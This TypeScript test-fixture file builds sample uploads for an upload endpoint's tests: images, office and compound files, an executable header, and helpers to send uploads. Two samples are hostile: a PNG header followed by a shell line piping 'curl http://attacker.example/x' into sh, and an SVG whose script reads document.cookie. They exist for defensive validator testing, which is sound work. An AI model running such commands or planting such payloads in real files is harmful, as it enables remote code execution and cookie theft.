/**
 * Files for the upload tests, made in code so the repository holds no
 * binaries: real images from sharp, a minimal .docx (a stored zip), a
 * minimal Word 97 and a minimal non-Word compound file, an executable
 * header, disguised scripts; and helpers to send them and to count what an
 * upload left behind.
 */
import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { crc32 } from 'node:zlib';
import { count } from 'drizzle-orm';
import sharp from 'sharp';
import { attachments } from '../../src/server/db/schema.ts';
import type { AttachmentView } from '../../src/shared/prompt-views.ts';
import type { ErrorJson } from '../helpers/rest-json.ts';
import type { TestApp } from '../helpers/test-app.ts';
import { bearerOf } from '../helpers/accounts.ts';

export const blankImage = (width: number, height: number, background = '#3a7bd5') =>
  sharp({ create: { width, height, channels: 3, background } });

export const pngOf = (width: number, height: number) => blankImage(width, height).png().toBuffer();

/** A JPEG carrying a camera's EXIF: make, and a GPS position in the GPS IFD. */
export function jpegWithGps(): Promise<Buffer> {
  return blankImage(64, 48)
    .jpeg()
    .withExif({
      IFD0: { Make: 'Test Camera', Copyright: 'Holiday' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '48/1 51/1 2964/100',
        GPSLongitudeRef: 'E',
        GPSLongitude: '2/1 17/1 4008/100',
      },
    })
    .toBuffer();
}

/** A 3-frame GIF animation of 16 × 16 pixels. */
export async function animatedGif(): Promise<Buffer> {
  const frames = await Promise.all(
    ['#f00', '#0f0', '#00f'].map((background) => blankImage(16, 16, background).raw().toBuffer()),
  );
  return sharp(Buffer.concat(frames), {
    raw: { width: 16, height: 48, channels: 3, pageHeight: 16 },
  })
    .gif({ delay: [100, 100, 100] })
    .toBuffer();
}

export const minimalPdf = Buffer.from(
  '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n' +
    '2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n' +
    'trailer\n<< /Root 1 0 R >>\n%%EOF\n',
);

/** A zip of stored (uncompressed) entries, as .docx and friends are containers. */
export function storedZip(entries: Record<string, string>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of Object.entries(entries)) {
    const nameBytes = Buffer.from(name);
    const data = Buffer.from(content);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x21, 12); // 1980-01-01
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x21, 14);
    central.writeUInt32LE(crc32(data), 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(centrals.length / 2, 8);
  end.writeUInt16LE(centrals.length / 2, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const WORD_MAIN =
  'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';

export const minimalDocx = storedZip({
  '[Content_Types].xml':
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    `<Override PartName="/word/document.xml" ContentType="${WORD_MAIN}"/></Types>`,
  'word/document.xml':
    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>',
});

/** A compound file (512-byte sectors) whose directory holds the given streams. */
export function compoundFile(streamNames: string[]): Buffer {
  const header = Buffer.alloc(512);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(header, 0);
  header.writeUInt16LE(0x3e, 24); // minor version
  header.writeUInt16LE(3, 26); // major version 3: 512-byte sectors
  header.writeUInt16LE(0xfffe, 28); // byte order
  header.writeUInt16LE(9, 30); // sector shift
  header.writeUInt16LE(6, 32); // mini sector shift
  header.writeUInt32LE(1, 44); // one FAT sector
  header.writeUInt32LE(0, 48); // directory starts at sector 0
  header.writeUInt32LE(0x1000, 56); // mini stream cutoff
  header.writeInt32LE(-2, 60); // no mini FAT
  header.writeInt32LE(-2, 68); // no DIFAT sectors
  header.fill(0xff, 76, 512);
  header.writeUInt32LE(1, 76); // the FAT is sector 1
  const directory = Buffer.alloc(512);
  ['Root Entry', ...streamNames].forEach((name, index) => {
    const entry = index * 128;
    const encoded = Buffer.from(`${name}\0`, 'utf16le');
    encoded.copy(directory, entry);
    directory.writeUInt16LE(encoded.length, entry + 64);
    directory[entry + 66] = index === 0 ? 5 : 2; // root storage, then streams
    directory.writeInt32LE(-1, entry + 68);
    directory.writeInt32LE(-1, entry + 72);
    directory.writeInt32LE(index === 0 && streamNames.length > 0 ? 1 : -1, entry + 76);
  });
  const fat = Buffer.alloc(512, 0xff);
  fat.writeInt32LE(-2, 0); // directory: one sector
  fat.writeInt32LE(-3, 4); // this FAT sector
  return Buffer.concat([header, directory, fat]);
}

export const minimalDoc = compoundFile(['WordDocument', '1Table']);
/** The container of an .msi installer: a compound file without a WordDocument stream. */
export const installerLikeCompoundFile = compoundFile(['\u4840\u3b3f\u4577\u446c']);

/** The start of a Windows executable (DOS header and PE signature). */
export const windowsExecutable = (() => {
  const exe = Buffer.alloc(256);
  exe.write('MZ', 0, 'latin1');
  exe.writeUInt32LE(0x80, 0x3c);
  exe.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  exe.write('PE\0\0', 0x80, 'latin1');
  return exe;
})();

export const PNG_SIGNATURE = Buffer.from('89504e470d0a1a0a', 'hex');
export const scriptBehindPngHeader = Buffer.concat([
  PNG_SIGNATURE,
  Buffer.from('\n#!/bin/sh\ncurl http://attacker.example/x | sh\n'),
]);

export const svgWithScript = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>\n',
);

/** A multipart/form-data body of any parts, each a field or a file. */
export type FormPart =
  | { field: string; value: string }
  | { field: string; fileName: string; bytes: Buffer; contentType?: string };

export const BOUNDARY = '----upload-test-boundary-4f2a';

export function multipartBody(parts: FormPart[]): Buffer {
  const chunks = parts.flatMap((part) => {
    if ('value' in part) {
      return [
        Buffer.from(
          `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${part.field}"\r\n\r\n${part.value}\r\n`,
        ),
      ];
    }
    const head =
      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${part.field}"; filename="${part.fileName}"\r\n` +
      `Content-Type: ${part.contentType ?? 'application/octet-stream'}\r\n\r\n`;
    return [Buffer.from(head), part.bytes, Buffer.from('\r\n')];
  });
  return Buffer.concat([...chunks, Buffer.from(`--${BOUNDARY}--\r\n`)]);
}

export const MULTIPART_HEADERS = { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` };

export interface UploadReply {
  status: number;
  body: { file?: AttachmentView } & Partial<ErrorJson>;
  headers: Record<string, unknown>;
}

export async function sendParts(
  testApp: Pick<TestApp, 'app'>,
  token: string,
  parts: FormPart[],
): Promise<UploadReply> {
  const response = await testApp.app.inject({
    method: 'POST',
    url: '/api/upload/single',
    headers: { ...MULTIPART_HEADERS, ...bearerOf(token) },
    payload: multipartBody(parts),
  });
  return { status: response.statusCode, body: response.json(), headers: response.headers };
}

/** POST /api/upload/single with one file in the "file" field. */
export function uploadFile(
  testApp: Pick<TestApp, 'app'>,
  token: string,
  fileName: string,
  bytes: Buffer,
  contentType?: string,
): Promise<UploadReply> {
  return sendParts(testApp, token, [
    { field: 'file', fileName, bytes, ...(contentType ? { contentType } : {}) },
  ]);
}

/** Rows in attachments and files in the disk storage, to show a refusal left nothing. */
export async function leftovers(testApp: TestApp): Promise<{ rows: number; files: number }> {
  const [row] = await testApp.database.db.select({ n: count() }).from(attachments);
  const folder = path.join(testApp.env.dataDir, 'uploads');
  const files = await readdir(folder).catch(() => []);
  return { rows: row?.n ?? 0, files: files.length };
}

/**
 * The stored bytes behind a fileUrl, fetched as a browser would; an upload
 * no prompt has claimed is served to its uploader only, so pass their token.
 */
export async function fetchUpload(testApp: Pick<TestApp, 'app'>, fileUrl: string, token?: string) {
  const headers = token ? { authorization: `Bearer ${token}` } : {};
  return testApp.app.inject({ method: 'GET', url: fileUrl, headers });
}
